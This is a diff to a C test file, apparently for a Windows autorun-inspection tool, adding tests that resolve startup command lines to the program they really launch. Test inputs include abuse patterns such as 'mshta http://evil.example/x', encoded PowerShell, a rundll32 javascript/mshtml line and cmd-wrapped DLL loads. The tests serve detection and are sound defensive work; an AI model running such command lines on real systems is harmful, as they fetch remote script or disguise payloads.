@@ -111,8 +111,6 @@ static void test_one(void)
     starts(&bob, AUTORUN_ONE, "C:\\gone\\not there.exe -q",
            "/gone/not there.exe|absent|-q");
     starts(&bob, AUTORUN_ONE, "gone.exe", "gone.exe|absent|");
-    starts(&bob, AUTORUN_ONE, "rundll32.exe C:\\evil\\two.dll,Start",
-           "/Windows/system32/rundll32.exe|found|C:\\evil\\two.dll,Start");
     starts(&bob, AUTORUN_ONE, "  ", "");
     starts(&bob, AUTORUN_ONE, "", "");
     starts(&bob, AUTORUN_ONE, "C:\\evil\\..\\evil\\.\\a.exe", "/evil/a.exe|found|");
@@ -127,7 +125,7 @@ static void test_one(void)
 static void test_variables(void)
 {
     starts(&bob, AUTORUN_ONE, "%SYSTEMROOT%\\explorer.exe", "/Windows/explorer.exe|found|");
-    starts(&bob, AUTORUN_ONE, "%ComSpec% /c x", "/Windows/system32/cmd.exe|found|/c x");
+    starts(&bob, AUTORUN_ONE, "%ComSpec% /c x", "/Windows/x.exe|found|");
     starts(&bob, AUTORUN_ONE, "%ProgramFiles(x86)%\\b.exe", "/Program Files (x86)/b.exe|found|");
     starts(&bob, AUTORUN_ONE, "%ProgramFiles%\\b.exe", "/Program Files (x86)/b.exe|found|");
     starts(&bob, AUTORUN_ONE, "%APPDATA%\\r.exe", "/Users/bob/AppData/Roaming/r.exe|found|");
@@ -265,16 +263,88 @@ static void test_lists(void)
     starts(&bob, AUTORUN_NATIVE, "autochk", "/Windows/system32/autochk.exe|found|");
 }
 
+static void test_patterns(void)
+{
+    const char *patterns = "explorer.exe|?:\\windows\\x.exe|autochk ^*";
+
+    ok(autorun_matches(patterns, "Explorer.EXE", 12), "without case");
+    ok(autorun_matches(patterns, "C:\\Windows\\x.exe", 16), "any drive");
+    ok(!autorun_matches(patterns, "C:\\evil\\windows\\x.exe", 21), "no other folder");
+    ok(autorun_matches(patterns, "autochk *", 9), "a star that is meant");
+    ok(!autorun_matches(patterns, "autochk evil", 12), "is no pattern");
+    ok(autorun_matches("!0|1", "2", 1) && !autorun_matches("!0|1", "1", 1), "none of them");
+    ok(autorun_matches("", "", 0) && !autorun_matches("", "x", 1), "nothing");
+    ok(autorun_matches("|x", "", 0) && autorun_matches("|x", "X", 1), "nothing or one");
+}
+
+/* What Windows NT ships in Winlogon's Shell and as a service. */
+static bool is_default(const char *row, const char *identity, const char *text)
+{
+    const struct autorun autorun = { .row = row, .identity = identity };
+
+    return autorun_is_default(&autorun, text, strlen(text));
+}
+
 static void test_defaults(void)
 {
-    const char *defaults = "explorer.exe|?:\\windows\\x.exe|autochk \\*";
+    const struct autorun line = { .defaults = "explorer.exe" };
 
-    ok(autorun_is_default(defaults, "Explorer.EXE", 12), "without case");
-    ok(autorun_is_default(defaults, "C:\\Windows\\x.exe", 16), "any drive");
-    ok(!autorun_is_default(defaults, "C:\\evil\\windows\\x.exe", 21), "no other folder");
-    ok(autorun_is_default(defaults, "autochk *", 9), "a star that is meant");
-    ok(!autorun_is_default(defaults, "autochk evil", 12), "is no pattern");
-    ok(!autorun_is_default(NULL, "x", 1) && !autorun_is_default("", "x", 1), "none");
+    ok(autorun_is_default(&line, "Explorer.exe", 12), "of a file");
+    ok(!autorun_is_default(&line, "evil.exe", 8), "not of a file");
+    ok(is_default("winlogon-userinit", "Userinit", "userinit.exe"), "a name");
+    ok(is_default("winlogon-userinit", "Userinit", "C:\\WINDOWS\\system32\\userinit.exe"),
+       "in the folder of the system");
+    ok(is_default("winlogon-userinit", "Userinit", "\"%SystemRoot%\\System32\\USERINIT.exe\""),
+       "quoted, with a variable");
+    ok(!is_default("winlogon-userinit", "Userinit", "C:\\WINDOWS\\userinit.exe"),
+       "another folder of Windows");
+    ok(!is_default("winlogon-userinit", "Userinit", "C:\\evil\\system32\\userinit.exe"),
+       "another folder of this name");
+    ok(!is_default("winlogon-shell", "Shell", "userinit.exe"), "of another row");
+    ok(is_default("service", "AudioSrv", "%SystemRoot%\\System32\\audiosrv.dll"), "a service");
+    ok(!is_default("service", "AudioSrv", "%SystemRoot%\\System32\\evil.dll"), "another library");
+    ok(!is_default("service", "Audio", "%SystemRoot%\\System32\\audiosrv.dll"), "another name");
+}
+
+/* Windows' own programs that start others, and others of their names. */
+static void test_hosts(void)
+{
+    starts(&bob, AUTORUN_ONE, "rundll32.exe C:\\evil\\two.dll,Start now",
+           "/evil/two.dll|found|Start now");
+    starts(&bob, AUTORUN_ONE, "rundll32 \"C:\\evil\\two.dll\",Start", "/evil/two.dll|found|Start");
+    starts(&bob, AUTORUN_ONE, "rundll32 C:\\evil\\two Start", "/evil/two.dll|found|Start");
+    starts(&bob, AUTORUN_ONE, "C:\\Windows\\system32\\rundll32.exe C:\\gone\\no.dll,Go",
+           "/gone/no.dll|absent|Go");
+    starts(&bob, AUTORUN_ONE, "C:\\evil\\rundll32.exe C:\\evil\\two.dll,Start",
+           "/evil/rundll32.exe|absent|C:\\evil\\two.dll,Start");
+    starts(&bob, AUTORUN_ONE, "rundll32 shell32.dll,Control_RunDLL C:\\evil\\a.exe",
+           "/evil/a.exe|found|");
+    starts(&bob, AUTORUN_ONE, "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication\"",
+           "/Windows/system32/rundll32.exe|found|javascript:\"\\..\\mshtml,RunHTMLApplication\"");
+    starts(&bob, AUTORUN_ONE, "rundll32.exe", "/Windows/system32/rundll32.exe|found|");
+    starts(&bob, AUTORUN_ONE, "regsvr32 /s C:\\evil\\two.dll", "/evil/two.dll|found|/s");
+    starts(&bob, AUTORUN_ONE, "cmd /c C:\\evil\\a.exe -x", "/evil/a.exe|found|-x");
+    starts(&bob, AUTORUN_ONE, "cmd.exe /q /cstart \"title\" /min C:\\evil\\a.exe -x",
+           "/evil/a.exe|found|-x");
+    starts(&bob, AUTORUN_ONE, "%ComSpec% /c \"C:\\Program Files\\Evil\\x y.exe\" -a",
+           "/Program Files/Evil/x y.exe|found|-a");
+    starts(&bob, AUTORUN_ONE, "cmd /c del C:\\evil\\a.exe",
+           "/Windows/system32/cmd.exe|found|/c del C:\\evil\\a.exe");
+    starts(&bob, AUTORUN_ONE, "cmd /c rundll32 C:\\evil\\two.dll,Start",
+           "/evil/two.dll|found|Start");
+    starts(&bob, AUTORUN_ONE, "mshta http://evil.example/x", "mshta|absent|http://evil.example/x");
+    starts(&bob, AUTORUN_ONE, "wscript.exe //b C:\\evil\\a.exe", "/evil/a.exe|found|//b");
+    starts(&bob, AUTORUN_ONE, "powershell -nop -File C:\\evil\\a.exe 1", "/evil/a.exe|found|1");
+    starts(&bob, AUTORUN_ONE, "powershell -enc AAAA",
+           "/Windows/system32/WindowsPowerShell/v1.0/powershell.exe|found|-enc AAAA");
+    starts(&bob, AUTORUN_LIBRARY, "C:\\Program Files\\Evil\\x y.exe",
+           "/Program Files/Evil/x y.exe|found|");
+    starts(&bob, AUTORUN_LIBRARY, "C:\\evil\\two", "/evil/two.dll|found|");
+    starts(&bob, AUTORUN_LIBRARY, "calc", "calc|absent|");
+    starts(&bob, AUTORUN_DRIVER, "a", "/Windows/System32/drivers/a.sys|found|");
+    starts(&bob, AUTORUN_PARTS, "C:\\evil\\two.dll|Go|1", "/evil/two.dll|found|Go|1");
+    starts(&bob, AUTORUN_PARTS, "||C:\\evil\\a.exe -x", "/evil/a.exe|found|-x");
+    starts(&bob, AUTORUN_NOTHING, "C:\\evil\\a.exe", "");
 }
 
 static const struct autorun_file ini_file = { .kind = AUTORUN_INI };
@@ -324,7 +394,9 @@ int main(void)
     test_moved();
     test_ends();
     test_lists();
+    test_patterns();
     test_defaults();
+    test_hosts();
     test_ini();
     return tap_done();
 }
